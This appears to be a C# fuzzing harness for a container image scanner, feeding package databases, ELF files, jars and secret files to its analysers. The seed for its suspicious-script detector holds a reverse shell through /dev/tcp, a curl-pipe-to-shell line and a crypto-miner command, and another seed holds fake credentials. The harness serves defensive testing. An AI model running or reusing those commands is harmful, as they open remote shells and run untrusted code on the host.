using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using Bulwark.Images.Archives;
using Bulwark.Images.Files;
using Bulwark.Images.Layers;
using Bulwark.Images.Malware;
using Bulwark.Images.Packages;
using Bulwark.Images.Packages.Alpine;
using Bulwark.Images.Packages.Debian;
using Bulwark.Images.Packages.Languages;
using Bulwark.Images.Packages.Rpm;
using Bulwark.Images.Scanning;
using Bulwark.Images.Secrets;
using Bulwark.Images.Tests.Harness;

namespace Bulwark.Fuzz;

/// <summary>Files inside images: databases of packages, and programs.</summary>
internal static class PackageTargets
{
    private const string Sqlite = "var/lib/rpm/rpmdb.sqlite";
    private const string Ndb = "usr/lib/sysimage/rpm/Packages.db";
    private const string Berkeley = "var/lib/rpm/Packages";
    private const string Status = "var/lib/dpkg/status";

    private static readonly FileMemory s_memory = new(new());
    private static readonly byte[] s_header = RpmFiles.Header("bash", "5.1", "6", 1, "bash-5.1-6.src.rpm", "/usr/bin/", "bash", "sh");

    public static IEnumerable<FuzzTarget> All =>
    [
        Of("os-release", new SmallDocuments(), "etc/os-release", "ID=debian\nVERSION_ID=\"12\"\nPRETTY_NAME='a \\\"b'\n"u8) with { RealFiles = ["/etc/os-release"] },
        Of("passwd", new SmallDocuments(), "etc/passwd", "root:x:0:0:root:/root:/bin/bash\na::1:1::/:\n"u8) with { RealFiles = ["/etc/passwd"] },
        Of("shadow", new SmallDocuments(), "etc/shadow", "root:*:1:0:99999:7:::\na::1:::::\n"u8),
        Of("dpkg-status", new DpkgDatabase(), Status, "Package: a\nStatus: install ok installed\nVersion: 1:2-3\nSource: b (2)\nArchitecture: amd64\nDescription: x\n y\n\nPackage: c\n"u8)
            with { RealFiles = ["/var/lib/dpkg/status"] },
        Of("dpkg-list", new DpkgFiles(), "var/lib/dpkg/info/a.list", "/.\n/usr\n/usr/bin/a\n"u8) with { RealFiles = ["/var/lib/dpkg/info/a*.list"] },
        Of("dpkg-md5sums", new DpkgFiles(), "var/lib/dpkg/info/a.md5sums", "00000000000000000000000000000000  usr/bin/a\n"u8) with { RealFiles = ["/var/lib/dpkg/info/a*.md5sums"] },
        Of("apk", new ApkDatabase(), "lib/apk/db/installed", "C:Q1x\nP:musl\nV:1.2.4-r2\nA:x86_64\no:musl\nm:a <a@b>\nF:lib\nR:ld.so\nZ:Q1y\n\nP:b\nV:1\n"u8),
        Of("rpm-sqlite", new RpmDatabase(), Sqlite, SqliteOf(s_header)),
        Of("rpm-ndb", new RpmDatabase(), Ndb, RpmFiles.NdbOf([s_header])),
        Of("rpm-berkeley", new RpmDatabase(), Berkeley, RpmFiles.BerkeleyOf([s_header, RpmFiles.Header("l", "1", "1", 0, "", "/x/", [.. Enumerable.Range(0, 400).Select(n => $"f{n}")])], false)),
        new("rpm-header", ReadRpmHeader, [s_header]) { Refusals = [typeof(ArchiveException)] },
        Of("npm", new NodePackages(), "node_modules/a/package.json", """{"name":"a","version":"1.0.0","x":[{"y":null}]}"""u8),
        Of("python", new PythonPackages(), "a.dist-info/METADATA", "Metadata-Version: 2.1\nName: a\nVersion: 1.0\n\nText\n"u8) with { RealFiles = ["/usr/lib/python3/dist-packages/*.egg-info"] },
        Of("gem", new GemPackages(), "specifications/a-1.gemspec", "Gem::Specification.new do |s|\n  s.name = \"a\".freeze\n  s.version = Gem::Version.new(\"1.0\")\nend\n"u8),
        Of("deps-json", new DotNetPackages(), "a.deps.json", """{"runtimeTarget":{"name":"x"},"libraries":{"A/1.0.0":{"type":"package","serviceable":true},"B/1":{"type":"project"}}}"""u8),
        Of("composer-installed", new ComposerPackages(), "vendor/composer/installed.json", """{"packages":[{"name":"a/b","version":"v1.0"}]}"""u8, """[{"name":"a/b","version":"1"}]"""u8.ToArray()),
        Of("program", new Programs(), "usr/bin/a", Elf((".go.buildinfo", GoSection), (".dep-v0", Crates))) with { RealFiles = ["/usr/bin/true"], RealBytes = 64 << 10 },
        new("go-build-information", input => _ = GoBuildInformation.Parse(input), [GoSection]) { Refusals = [typeof(ArchiveException)] },
        new("cargo-auditable", input => _ = CargoAuditable.Parse(input), [Crates]) { Refusals = [typeof(ArchiveException)] },
        Of("suspicious-program", new SuspiciousPrograms(), "usr/bin/a", Large(Elf((".text", "UPX!stratum+tcp://x"u8.ToArray())), 70_000)),
        Of("suspicious-script", new SuspiciousScripts(), "usr/bin/a.sh", "#!/bin/sh\nbash -i >& /dev/tcp/1.2.3.4/4444 0>&1\ncurl x | sh\nxmrig -o stratum+tcp://pool.example.com:3333\n"u8) with { RealFiles = ["/usr/bin/*.sh", "/etc/cron.daily/*"] },
        Of("secrets", new SecretFiles(), "app/.env", "DB_PASSWORD=Xk3v9QpLm2Zr\nAKIAQYLPMN5HHHFPZAM2\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\nghp_16C7e42F292c6912E7710c838347Ae178B4a\n"u8)
            with { RealFiles = ["/etc/*.conf"] },
        Of("java-archive", new JavaArchives(), "a/b-1.0.jar", Jar(), Jar(("c-2.jar", Jar()))),
        new("java-manifest", input => _ = JavaManifest.Read(input, "log4j-core-2.17.1.jar"),
            ["Manifest-Version: 1.0\r\nImplementation-Vendor-Id: org.apache\r\n .logging\r\nImplementation-Version: 2.17.1\r\nBundle-SymbolicName: org.apache.log4j.core;x\r\n\r\nName: x\r\n"u8.ToArray()]),
        new("file-capabilities", input => _ = FileCapabilities.NamesOf(FileCapabilities.Parse(input)), [[0, 0, 0, 2, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]]),
    ];

    private static byte[] GoSection
    {
        get
        {
            var modules = "0w\xafABCDEFGHIJKLM"u8[..16].ToArray();
            byte[] text = [.. modules, .. "path\tx\nmod\tx\t(devel)\t\ndep\tgolang.org/x/net\tv0.1.0\th1:x=\n=>\tx/y\tv0.2.0\t\n"u8, .. modules];
            return [0xff, .. " Go buildinf:"u8, 8, 2, .. new byte[16], 8, .. "go1.21.5"u8, (byte)text.Length, .. text];
        }
    }

    private static byte[] Crates
    {
        get
        {
            using var packed = new MemoryStream();
            using (var zlib = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true))
                zlib.Write("""{"packages":[{"name":"a","version":"1.0.0","source":"registry","kind":"build"},{"name":"b","version":"2.0.0","root":true}]}"""u8);
            return packed.ToArray();
        }
    }

    // As the file would come to it out of a layer, and through all that is made of it afterwards.
    private static FuzzTarget Of(string name, IFileAnalyser analyser, string path, ReadOnlySpan<byte> seed, params byte[][] seeds) => new(name, input =>
    {
        var file = new LayerFile(path, TarEntryKind.File, (UnixFileMode)0b111_101_101, 0, 0, input.Length, "", 0);
        if (!analyser.Wants(file, input.AsSpan(0, Math.Min(512, input.Length))))
            return;
        using var content = FileContent.Of(new MemoryStream(input), input.Length, s_memory);
        var layer = new Layer();
        analyser.Read(file, content, layer);
        layer.Finish();
        if (analyser is not (JavaArchives or Programs))
        {
            Trial.Limit("packages", layer.Packages.Values.Sum(packages => (long)packages.Length), input.Length);
            Trial.Limit("paths", layer.OwnedPaths.Values.Sum(paths => (long)paths.Length), input.Length);
        }
        Trial.Limit("secrets and suspicions", layer.Secrets.Count + layer.Suspicions.Count, input.Length);
        _ = ImageScanner.Judge(new("fuzz", "", null, [layer]), null, new(), DateTimeOffset.UnixEpoch);
    }, [seed.ToArray(), .. seeds])
    {
        Refusals = [typeof(ArchiveException), typeof(System.Text.Json.JsonException)],
    };

    private static void ReadRpmHeader(byte[] input)
    {
        var header = new RpmHeader(input);
        _ = header.Package();
        Trial.Limit("files", header.Files().Count(), input.Length);
    }

    private static byte[] Large(byte[] bytes, int length) => [.. bytes, .. new byte[length - bytes.Length]];

    private static byte[] Jar(params (string Name, byte[] Content)[] more)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in more.Append(("META-INF/MANIFEST.MF", "Implementation-Version: 1.0\nImplementation-Vendor-Id: a.b\n"u8.ToArray()))
                .Append(("META-INF/maven/a/b/pom.properties", "groupId=a\nartifactId=b\nversion=1\n"u8.ToArray())).Append(("A.class", [1])))
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(content);
            }
        }
        return stream.ToArray();
    }

    /// <summary>A program of 64 bits with nothing in it but sections.</summary>
    private static byte[] Elf(params (string Name, byte[] Content)[] sections)
    {
        var names = new MemoryStream();
        names.WriteByte(0);
        var content = new MemoryStream();
        var table = new MemoryStream();
        void Section(int name, int type, byte[] bytes)
        {
            var entry = new byte[64];
            BinaryPrimitives.WriteInt32LittleEndian(entry, name);
            BinaryPrimitives.WriteInt32LittleEndian(entry.AsSpan(4), type);
            BinaryPrimitives.WriteInt64LittleEndian(entry.AsSpan(24), 64 + content.Length);
            BinaryPrimitives.WriteInt64LittleEndian(entry.AsSpan(32), bytes.Length);
            table.Write(entry);
            content.Write(bytes);
        }
        Section(0, 0, []);
        foreach (var (name, bytes) in sections)
        {
            var at = (int)names.Length;
            names.Write(Encoding.ASCII.GetBytes(name));
            names.WriteByte(0);
            Section(at, 1, bytes);
        }
        Section(0, 3, names.ToArray());
        var header = new byte[64];
        "\x7f\x45LF\x02\x01\x01"u8.CopyTo(header);
        header[16] = 3;
        BinaryPrimitives.WriteInt64LittleEndian(header.AsSpan(40), 64 + content.Length);
        BinaryPrimitives.WriteInt16LittleEndian(header.AsSpan(58), 64);
        BinaryPrimitives.WriteInt16LittleEndian(header.AsSpan(60), (short)(sections.Length + 2));
        BinaryPrimitives.WriteInt16LittleEndian(header.AsSpan(62), (short)(sections.Length + 1));
        return [.. header, .. content.ToArray(), .. table.ToArray()];
    }

    /// <summary>An SQLite database of two pages (https://sqlite.org/fileformat2.html): its schema, and a table with one row.</summary>
    private static byte[] SqliteOf(byte[] header)
    {
        const int PageBytes = 4096;
        var file = new byte[2 * PageBytes];
        "SQLite format 3\0"u8.CopyTo(file);
        BinaryPrimitives.WriteUInt16BigEndian(file.AsSpan(16), PageBytes);
        void Leaf(int start, int page, byte[] cell)
        {
            var at = PageBytes - cell.Length;
            cell.CopyTo(file, page * PageBytes + at);
            file[start] = 0x0d;
            BinaryPrimitives.WriteUInt16BigEndian(file.AsSpan(start + 3), 1);
            BinaryPrimitives.WriteUInt16BigEndian(file.AsSpan(start + 5), (ushort)at);
            BinaryPrimitives.WriteUInt16BigEndian(file.AsSpan(start + 8), (ushort)at);
        }
        byte[] Varint(int number) => number < 0x80 ? [(byte)number] : [(byte)(number >> 7 | 0x80), (byte)(number & 0x7f)];
        byte[] Cell(byte[] types, byte[] values) => [.. Varint(types.Length + 1 + values.Length), 1, (byte)(types.Length + 1), .. types, .. values];
        Leaf(100, 0, Cell([5 * 2 + 13, 8 * 2 + 13, 8 * 2 + 13, 1, 13], [.. "tablePackagesPackages"u8, 2]));
        Leaf(PageBytes, 1, Cell([0, .. Varint(header.Length * 2 + 12)], header));
        return file;
    }
}
